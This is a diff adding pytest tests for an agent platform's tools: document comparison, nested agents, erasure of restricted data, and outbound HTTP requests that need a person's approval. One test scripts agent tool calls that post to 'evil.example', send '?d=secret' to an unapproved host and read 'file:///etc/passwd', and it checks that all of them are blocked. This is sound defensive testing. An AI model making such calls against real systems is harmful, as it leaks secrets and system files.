@@ -1,0 +1,274 @@
+"""Tools over a real library: comparing, other agents, and requests that a person approves."""
+
+import asyncio
+import json
+import threading
+from collections.abc import AsyncIterator, Callable, Iterator
+from contextlib import AsyncExitStack
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import httpx
+import pytest
+from sqlalchemy import text
+
+from citewell.core.context import Context
+from citewell.core.settings import Settings
+from tests.conftest import LiveServer, serving
+from tests.features.agents.conftest import MODEL, Desk, Scripted, calling, saying
+from tests.office import open_office
+from tests.vendor import Reply
+
+Refused = Callable[[httpx.Response, int, str], None]
+
+
+class Outside:
+    """A host that notes what it is sent."""
+
+    def __init__(self) -> None:
+        self.received: list[tuple[str, str, str, str | None]] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _answer(self) -> None:
+                body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
+                key = self.headers.get("idempotency-key")
+                outer.received.append((self.command, self.path, body, key))
+                told = b"The rate is 1.25."
+                self.send_response(200)
+                self.send_header("content-type", "text/plain")
+                self.send_header("content-length", str(len(told)))
+                self.end_headers()
+                self.wfile.write(told)
+
+            do_GET = do_POST = _answer  # noqa: N815 - as the library names them
+
+            def log_message(self, *_: object) -> None: ...
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.host = f"127.0.0.1:{self.server.server_port}"
+
+
+@pytest.fixture(scope="module")
+def outside() -> Iterator[Outside]:
+    made = Outside()
+    thread = threading.Thread(target=made.server.serve_forever)
+    thread.start()
+    try:
+        yield made
+    finally:
+        made.server.shutdown()
+        made.server.server_close()
+        thread.join()
+
+
+@pytest.fixture(scope="module")
+def agent_server(
+    settings: Settings, agent_url: str, vendor: Scripted, outside: Outside
+) -> Iterator[LiveServer]:
+    """A server whose agents may reach one host, by one of its names without asking."""
+    changed = {
+        "llm": MODEL, "llm_base_url": f"{vendor.server.url}/v1", "database_url": agent_url,
+        "agent_hosts": (outside.host,), "private_hosts": ("127.0.0.0/8", "::1"),
+        "agent_read_hosts": (outside.host.replace("127.0.0.1", "localhost"),),
+    }  # fmt: skip
+    with serving(settings.model_copy(update=changed), agent_url) as server:
+        yield server
+
+
+@pytest.fixture
+async def desk(agent_server: LiveServer, vendor: Scripted) -> AsyncIterator[Desk]:
+    async with AsyncExitStack() as stack:
+        yield Desk(await open_office(agent_server, stack), vendor)
+
+
+def posting(host: str, body: str = "Bay 4 is free.") -> tuple[str, dict[str, Any]]:
+    return ("send_http", {"method": "POST", "url": f"http://{host}/notes", "body": body})
+
+
+class TestReading:
+    async def test_documents_are_compared_and_changes_cited(self, desk: Desk) -> None:
+        old = await desk.documents.add("Old", "Visitors park in bay 4. The gate opens at six.")
+        new = await desk.documents.add("New", "Visitors park in bay 9. The gate opens at six.")
+        agent = await desk.new_agent("compare_documents", "query_table")
+        two = {"document_id": old["id"], "other_document_id": new["id"]}
+        desk.vendor.play(
+            calling(
+                ("compare_documents", two),
+                ("compare_documents", {"document_id": old["id"]}),
+                ("query_table", {"document_id": old["id"]}),
+            ),
+            saying("Visitors park in bay 9 [2]."),
+        )
+        run = await desk.ran(agent)
+        changed, same, none = [call["output"] for call in run["calls"]]
+        assert "removed: '4'" in changed
+        assert "added: '9'" in changed
+        assert "Both are the same" in same
+        assert "no CSV file" in none
+        assert run["report"]["sentences"][0]["grade"] in ("quoted", "close")
+        assert run["report"]["citations"][0]["chunk_id"] is None
+
+    async def test_other_agents_work_with_the_same_rights_and_not_in_circles(
+        self, desk: Desk
+    ) -> None:
+        await desk.documents.add("Parking", "Visitors park in bay 4 behind the mill.")
+        agent = await desk.new_agent("ask_agent")
+        slug = (await desk.sent("GET", f"/agents/{agent}", 200))["slug"]
+        desk.vendor.play(
+            calling(
+                ("ask_agent", {"agent": "researcher", "task": "Where do visitors park?"}),
+                ("ask_agent", {"agent": slug, "task": "Go on."}),
+                ("ask_agent", {"agent": "nobody", "task": "Go on."}),
+            ),
+            calling(("search_documents", {"query": "visitors park"})),
+            saying("Visitors park in bay 4 behind the mill [1]."),
+            saying("Visitors park in bay 4 behind the mill [1]."),
+        )
+        run = await desk.ran(agent)
+        assert run["status"] == "succeeded", run
+        assert run["report"]["grades"] == {"quoted": 1}
+        own = [call for call in run["calls"] if call["run_id"] == run["id"]]
+        assert [call["status"] for call in own] == ["succeeded", "failed", "failed"]
+        assert "cannot call itself" in own[1]["output"]
+        assert len(run["calls"]) == 4  # with the search of the other agent
+        assert run["usage"]["input_tokens"] == 4 * 42
+        assert (await desk.sent("GET", "/agent-runs", 200))["pagination"]["total"] == 1
+
+    async def test_cells_of_a_table_are_withheld_and_erased_in_all_runs_that_saw_them(
+        self, desk: Desk
+    ) -> None:
+        [made] = await desk.documents.upload(
+            ("rates.csv", b"bay,rate\n4,7777\n"), access_level="internal"
+        )
+        inner = await desk.new_agent("query_table", "list_documents")
+        slug = (await desk.sent("GET", f"/agents/{inner}", 200))["slug"]
+        outer = await desk.new_agent("ask_agent")
+        query = ("query_table", {"document_id": made["id"]})
+        desk.vendor.play(
+            calling(("ask_agent", {"agent": slug, "task": "The rate of bay 4?"})),
+            calling(query, ("list_documents", {})),
+            saying("The rate is 7777."),
+            saying("The rate of bay 4 is 7777."),
+        )
+        ann = await desk.office.person()
+        run = await desk.ran(outer, "The rate?", ann.client)
+        path = f"/agent-runs/{run['id']}"
+        assert "is 7777" in json.dumps(run)
+        [inner_run] = {call["run_id"] for call in run["calls"]} - {run["id"]}
+        await desk.sent("GET", f"/agent-runs/{inner_run}", 404, client=ann.client)
+        await desk.sent("PATCH", f"/documents/{made['id']}", 200, {"access_level": "restricted"})
+        seen = await desk.sent("GET", path, 200, client=ann.client)
+        assert (seen["is_withheld"], "7777" in json.dumps(seen)) == (True, False)
+        await desk.sent("DELETE", f"/documents/{made['id']}", 204)
+        await desk.sent("DELETE", f"/documents/trash/{made['id']}", 204)
+        for table in ("agent_run", "agent_step", "tool_execution"):
+            rows = await desk.office.within(lambda ctx, t=table: _texts(ctx, t))
+            assert not any("7777" in row or "rates.csv" in row for row in rows), table
+
+    async def test_inner_run_whose_model_refuses_has_failed_and_the_outer_goes_on(
+        self, desk: Desk
+    ) -> None:
+        outer = await desk.new_agent("ask_agent")
+        desk.vendor.play(
+            calling(("ask_agent", {"agent": "researcher", "task": "Look."})),
+            calling(("current_time", {})),
+            Reply(status=400, error={"message": "no such thing"}),
+            saying("Nothing was found."),
+        )
+        run = await desk.ran(outer)
+        assert run["status"] == "succeeded", run
+        [asked] = [call for call in run["calls"] if call["run_id"] == run["id"]]
+        assert asked["status"] == "failed"
+        rows = await desk.office.within(lambda ctx: _texts(ctx, "agent_run"))
+        assert sorted(json.loads(row)["status"] for row in rows) == ["failed", "succeeded"]
+        # The tokens of the run that failed are the outer one's too.
+        assert run["usage"]["input_tokens"] == 3 * 42
+
+
+async def _texts(ctx: Context, table: str) -> list[str]:
+    found = await ctx.session.scalars(text(f"SELECT to_jsonb(t)::text FROM {table} t"))
+    return list(found)
+
+
+class TestOutside:
+    async def test_action_waits_for_its_user_and_is_done_once(
+        self, desk: Desk, outside: Outside, refused: Refused
+    ) -> None:
+        outside.received.clear()
+        agent = await desk.new_agent("send_http")
+        ann, ben = await desk.office.person(), await desk.office.person()
+        desk.vendor.play(calling(posting(outside.host)), saying("It was sent."))
+        run = await desk.ran(agent, "Send it.", ann.client)
+        assert run["status"] == "waiting"
+        assert run["usage"]["input_tokens"] == 42
+        assert outside.received == []
+        [call] = run["calls"]
+        assert call["action"] == f"POST http://{outside.host}/notes\n\nBay 4 is free."
+        path = f"/api/v1/agent-runs/{run['id']}/approve"
+        body = {
+            "call_id": call["id"], "arguments_hash": call["arguments_hash"], "approve": True,
+        }  # fmt: skip
+        other = {**body, "arguments_hash": "0" * 64}
+        refused(await ann.client.post(path, json=other), 409, "approval_mismatch")
+        refused(await ben.client.post(path, json=body), 404, "agent_run_not_found")
+        refused(await desk.client.post(path, json=body), 404, "agent_run_not_found")
+        missing = {**body, "call_id": run["id"]}
+        refused(await ann.client.post(path, json=missing), 404, "approval_not_found")
+        both = await asyncio.gather(*(ann.client.post(path, json=body) for _ in range(2)))
+        assert sorted(reply.status_code for reply in both) == [200, 409]
+        refused(next(one for one in both if one.status_code == 409), 409, "approval_decided")
+        ended = await desk.reached(run["id"], "succeeded", "failed", client=ann.client)
+        assert ended["status"] == "succeeded", ended
+        assert outside.received == [("POST", "/notes", "Bay 4 is free.", call["id"])]
+        actions = [event.action for event in await desk.office.trail(run["id"])]
+        assert actions == ["agent_run.started", "agent_run.approved"]
+
+    async def test_refused_and_foreign_requests_are_never_sent(
+        self, desk: Desk, outside: Outside
+    ) -> None:
+        outside.received.clear()
+        agent = await desk.new_agent("send_http", "fetch_url")
+        elsewhere = outside.host.replace("127.0.0.1", "127.0.0.2")
+        desk.vendor.play(
+            calling(
+                posting(outside.host),
+                posting("evil.example"),
+                posting(elsewhere),
+                ("fetch_url", {"url": f"http://{elsewhere}/?d=secret"}),
+                ("fetch_url", {"url": f"http://u:p@{outside.host}/"}),
+                ("fetch_url", {"url": "file:///etc/passwd"}),
+            ),
+            saying("Nothing was sent."),
+        )
+        run = await desk.ran(agent, "Send it.")
+        [waiting] = [call for call in run["calls"] if call["status"] == "waiting"]
+        body = {
+            "call_id": waiting["id"], "arguments_hash": waiting["arguments_hash"],
+            "approve": False, "comment": "Not this one.",
+        }  # fmt: skip
+        await desk.sent("POST", f"/agent-runs/{run['id']}/approve", 200, body)
+        ended = await desk.reached(run["id"], "succeeded", "failed")
+        statuses = [call["status"] for call in ended["calls"]]
+        assert statuses == ["refused", "failed", "failed", "failed", "failed", "failed"]
+        assert "person refused" in ended["calls"][0]["output"]
+        assert "does not allow" in ended["calls"][1]["output"]
+        assert outside.received == []
+
+    async def test_read_hosts_need_no_approval_and_the_others_do(
+        self, desk: Desk, outside: Outside
+    ) -> None:
+        outside.received.clear()
+        agent = await desk.new_agent("fetch_url")
+        free = outside.host.replace("127.0.0.1", "localhost")
+        desk.vendor.play(
+            calling(("fetch_url", {"url": f"http://{free}/rate"})),
+            calling(("fetch_url", {"url": f"http://{outside.host}/rate"})),
+        )
+        run = await desk.ran(agent, "What is the rate?")
+        assert run["status"] == "waiting"
+        assert [call["status"] for call in run["calls"]] == ["succeeded", "waiting"]
+        assert "The rate is 1.25." in run["calls"][0]["output"]
+        assert [method for method, *_ in outside.received] == ["GET"]
+        cancelled = await desk.sent("POST", f"/agent-runs/{run['id']}/cancel", 200)
+        assert [call["status"] for call in cancelled["calls"]] == ["succeeded", "refused"]
